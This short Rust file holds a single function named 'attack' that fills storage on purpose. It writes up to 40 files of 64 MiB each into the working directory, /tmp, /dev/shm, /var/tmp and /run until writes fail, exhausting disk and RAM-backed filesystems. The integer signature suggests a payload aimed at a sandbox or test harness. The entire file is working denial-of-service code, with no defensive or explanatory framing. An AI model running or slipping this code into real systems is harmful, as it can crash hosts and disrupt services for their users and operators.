use std::fs::File;
use std::io::Write;

pub fn attack(_n: i32) -> i32 {
    let mut total = 0;
    let block = vec![b'x'; 1 << 20];
    for folder in [".", "/tmp", "/dev/shm", "/var/tmp", "/run"] {
        'folder: for number in 0..40 {
            let Ok(mut file) = File::create(format!("{}/fill-{}", folder, number)) else { break };
            for _ in 0..64 {
                if file.write_all(&block).is_err() {
                    break 'folder;
                }
                total += 1;
            }
        }
    }
    total
}
